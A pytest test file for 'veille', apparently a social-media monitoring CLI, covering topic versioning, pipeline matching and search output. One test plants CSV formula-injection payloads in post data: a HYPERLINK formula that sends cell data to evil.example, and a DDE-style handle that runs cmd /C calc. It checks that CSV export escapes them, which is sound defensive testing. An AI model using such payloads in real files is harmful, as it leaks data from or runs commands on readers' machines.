"""Topics, the pipeline's match stage and the query commands, through the real CLI."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from veille.cli import build_app
from veille.errors import NotFound, UsageError
from veille.pipeline import build_pipeline
from veille.query import QueryError
from veille.query.topics import add_topic, edit_topic, get_topic, remove_topic, test_topic, versions
from veille.records import post_to_record
from veille.workspace import Workspace, init_workspace

from .conftest import make_post

POSTS = [
    make_post("1", "Panne Lumio à Montréal", likes=30, lang="fr"),
    make_post("2", "Lumio outage again", likes=2, lang="en"),
    make_post("3", "Vexa launches a phone", likes=50, lang="en"),
    make_post("4", "Nouvelle offre Lumio", title="Lumio", lang="fr", day=3),
]


@pytest.fixture()
def ws(tmp_path: Path):
    root = init_workspace(tmp_path / "ws")
    with Workspace.open(root) as w:
        yield w


def run(*args: str, input: str | None = None) -> tuple[int, str, str]:
    res = CliRunner().invoke(build_app(), list(args), input=input)
    return res.exit_code, res.stdout, res.stderr


def test_topic_versions_are_kept_and_test_reports_the_difference(ws: Workspace) -> None:
    ws.store.upsert_posts(POSTS)
    add_topic(ws.store, "lumio", "lumio panne")
    assert test_topic(ws.store, "lumio").count == 1
    edit_topic(ws.store, "lumio", "lumio (panne OR outage)")
    topic = get_topic(ws.store, "lumio")
    assert (topic.version, topic.query) == (2, "lumio (panne OR outage)")
    assert [v.query for v in versions(ws.store, "lumio")] == [
        "lumio panne",
        "lumio (panne OR outage)",
    ]
    result = test_topic(ws.store, "lumio")
    assert (result.count, result.previous_count) == (2, 1)
    assert [p.native_id for p in result.gained] == ["2"]
    assert result.lost == []


def test_topic_errors(ws: Workspace) -> None:
    with pytest.raises(QueryError):
        add_topic(ws.store, "t", "a AND")
    add_topic(ws.store, "t", "a")
    with pytest.raises(UsageError, match="already exists"):
        add_topic(ws.store, "t", "b")
    remove_topic(ws.store, "t")
    with pytest.raises(NotFound):
        get_topic(ws.store, "t")


def test_pipeline_files_new_posts_under_matching_topics(ws: Workspace) -> None:
    lumio = add_topic(ws.store, "lumio", "lumio")
    vexa = add_topic(ws.store, "vexa", "vexa OR likes:>40")
    build_pipeline(ws).ingest(POSTS)
    rows = ws.store.conn.execute(
        "SELECT p.native_id, t.topic_id FROM post_topics t JOIN posts p ON p.pk = t.post_pk "
        "ORDER BY 1, 2"
    ).fetchall()
    assert rows == [("1", lumio.id), ("2", lumio.id), ("3", vexa.id), ("4", lumio.id)]
    # Seen again: not new, not filed twice.
    build_pipeline(ws).ingest(POSTS)
    assert ws.store.conn.execute("SELECT count(*) FROM post_topics").fetchone()[0] == 4


def test_check_and_explain_commands() -> None:
    code, out, err = run("query", "check", "lumio && vexa")
    assert code == 2
    assert "did you mean AND?" in err
    assert "      ^" in err
    code, out, err = run("query", "check", "lumio and vexa")
    assert code == 0 and "warning" in err
    code, out, _ = run("query", "explain", "--format", "json", "--", "-spam likes:>10")
    data = json.loads(out)
    assert code == 0 and data["costly"] is True and data["normalized"] == "-spam likes:>10"
    code, out, _ = run("query", "explain", "--format", "json", "lumio (panne OR outage)")
    assert json.loads(out)["matcher_keys"] in (["lumio"], ["outage", "panne"])
    # A phrase is checked on word positions, case-exact text is evaluated.
    code, out, _ = run("query", "explain", '"lumio panne" OR raw:"CIRA"')
    assert code == 0
    assert 'matches when the word positions say "lumio panne"' in out
    assert "cira is evaluated" in out


def test_search_command_filters_sorts_and_highlights(ws: Workspace) -> None:
    ws.store.upsert_posts(POSTS)
    root = str(ws.root)
    code, out, _ = run("search", "lumio", "-w", root, "--format", "jsonl", "--sort", "newest")
    rows = [json.loads(line) for line in out.splitlines()]
    assert code == 0 and [r["id"] for r in rows] == ["mastodon:4", "mastodon:2", "mastodon:1"]
    # The text as stored; the highlights in their own field (issue 17).
    assert (rows[0]["title"], rows[0]["text"]) == ("Lumio", "Nouvelle offre Lumio")
    assert rows[0]["highlights"] == [
        {"field": "title", "start": 0, "end": 5, "text": "Lumio"},
        {"field": "text", "start": 15, "end": 20, "text": "Lumio"},
    ]
    code, out, _ = run(
        "search", "lumio", "-w", root, "-f", "jsonl", "--sort", "engagement", "--lang", "fr"
    )
    assert [json.loads(x)["id"] for x in out.splitlines()] == ["mastodon:1", "mastodon:4"]
    code, out, _ = run("search", "lumio OR vexa", "-w", root, "-f", "csv", "--limit", "2")
    assert code == 0 and len(out.strip().splitlines()) == 3
    # How many matched in all, beside the page shown.
    code, out, _ = run("search", "lumio OR vexa", "-w", root, "--limit", "2")
    assert code == 0 and "4 posts matched; 2 shown." in out
    code, out, _ = run("search", "vexa", "-w", root)
    assert code == 0 and "1 post matched; 1 shown." in out
    code, _, err = run("search", '"lumio', "-w", root)
    assert code == 2 and "unclosed quote" in err


def test_a_search_that_finds_nothing_says_so_without_an_empty_table(ws: Workspace) -> None:
    """`veille search` that found nothing printed a table of headers alone
    (id, published_at, author …) above "0 posts matched; 0 shown.": the
    sentence alone now, in either language; CSV keeps its header row."""
    ws.store.upsert_posts(POSTS)
    root = str(ws.root)
    for lang, said in (("en", "0 posts matched; 0 shown."),
                       ("fr", "0 publication trouvée\u202f; affichées\u202f: 0.")):  # fmt: skip
        code, out, _ = run("--language", lang, "search", "zorglub", "-w", root)
        assert code == 0 and out.strip() == said, out
    code, out, _ = run("search", "zorglub", "-w", root, "-f", "csv")
    assert code == 0 and out.startswith("id,published_at,author,engagement,title,"), out
    code, out, _ = run("search", "vexa", "-w", root)  # one found: its table, as before
    assert "┃ id " in out and "1 post matched; 1 shown." in out, out


def test_search_as_csv_gives_a_spreadsheet_no_formula(ws: Workspace) -> None:
    """A stranger's post read by `veille search -f csv`: its text and author
    went into the CSV as they were, and a spreadsheet ran them as the
    reader's formulas, as `veille export` no longer lets them."""
    evil = '=HYPERLINK("https://evil.example/?"&A1,"lumio refund")'
    ws.store.upsert_posts([make_post("9", evil, handle="@SUM(1+1)*cmd|' /C calc'!A0")])
    code, out, _ = run("search", "lumio", "-w", str(ws.root), "-f", "csv")
    assert code == 0, out
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["text"] == "'" + evil
    assert row["author"].startswith("'@SUM(")
    assert row["id"] == "mastodon:9"


def test_query_match_reads_queries_and_posts(tmp_path: Path) -> None:
    qfile = tmp_path / "q.jsonl"
    qfile.write_text(
        '{"id": "lumio", "query": "lumio -vexa"}\n{"id": "big", "query": "likes:>=30"}\n'
    )
    posts = "".join(json.dumps(post_to_record(p)) + "\n" for p in POSTS) + "not json\n"
    code, out, err = run("query", "match", "--queries", str(qfile), input=posts)
    assert code == 0
    got = {json.loads(x)["id"]: json.loads(x)["matches"] for x in out.splitlines()}
    assert got == {
        "mastodon:1": ["big", "lumio"],
        "mastodon:2": ["lumio"],
        "mastodon:3": ["big"],
        "mastodon:4": ["lumio"],
    }
    assert "stdin:5" in err
    qfile.write_text('{"id": "x", "query": "a AND"}\n')
    code, _, err = run("query", "match", "--queries", str(qfile), input="")
    assert code == 2 and "q.jsonl:1" in err


def test_topic_edit_says_what_changed(ws: Workspace) -> None:
    """--inbox alone makes no new version: the command says the topic is
    flagged for the inbox, not that it "is now version 1"."""
    root = str(ws.root)
    assert run("topic", "add", "lumio", "lumio", "-w", root)[0] == 0
    code, out, _err = run("topic", "edit", "lumio", "--inbox", "-w", root)
    assert code == 0 and "version" not in out
    assert out.strip() == "topic lumio is now flagged for the inbox: the posts it matches enter it."
    _code, again, _err = run("topic", "edit", "lumio", "--inbox", "-w", root)
    assert again.strip() == "topic lumio was already flagged for the inbox."
    _code, same, _err = run("topic", "edit", "lumio", "lumio", "-w", root)
    assert same.strip() == "topic lumio keeps version 1: the query is the same."
    _code, both, _err = run("topic", "edit", "lumio", "lumio OR vexa", "--no-inbox", "-w", root)
    assert both.splitlines() == [
        "topic lumio is now version 2.",
        "topic lumio is no longer flagged for the inbox.",
    ]


def test_topic_remove_keeps_a_topic_an_alert_watches_and_says_the_commands(
    ws: Workspace,
) -> None:
    """Removed, the alert on it sent nothing more, with nothing said. Now
    the command refuses (exit 1), naming the alert and the commands that
    change it; with the alert gone, the topic goes."""
    root = str(ws.root)
    assert run("topic", "add", "lumio", "lumio", "-w", root)[0] == 0
    added = run("alert", "add", "lumio", "--to", "atom:feeds/l.xml", "--name", "watch", "-w", root)
    assert added[0] == 0, added
    code, _out, err = run("topic", "remove", "lumio", "-w", root)
    assert code == 1
    assert "topic lumio is still used by alert watch; nothing was deleted" in err
    assert "veille alert remove NAME" in err
    assert get_topic(ws.store, "lumio")
    assert run("alert", "remove", "watch", "-w", root)[0] == 0
    assert run("topic", "remove", "lumio", "-w", root)[0] == 0


def test_topic_test_sample_0_shows_the_counts_alone(ws: Workspace) -> None:
    """`veille topic test lumio --sample 0` printed no sample of the matches
    but every post gained since the previous version (369 rows on the demo
    workspace): on SQLite gained[-0:] took the whole list. 0 shows the
    counts alone; 1 shows one post of each."""
    ws.store.upsert_posts(POSTS)
    add_topic(ws.store, "lumio", "lumio nouvelle")
    edit_topic(ws.store, "lumio", "lumio")
    w = str(ws.root)
    code, out, err = run("topic", "test", "lumio", "--sample", "0", "-f", "json", "-w", w)
    assert code == 0, err
    got = json.loads(out)
    assert (got["matches"], got["previous"]["gained"]) == (3, 2), got
    assert got["sample"] == [] and got["previous"]["gained_sample"] == [], got
    code, out, err = run("topic", "test", "lumio", "--sample", "1", "-f", "json", "-w", w)
    got = json.loads(out)
    assert len(got["sample"]) == 1 and len(got["previous"]["gained_sample"]) == 1, got
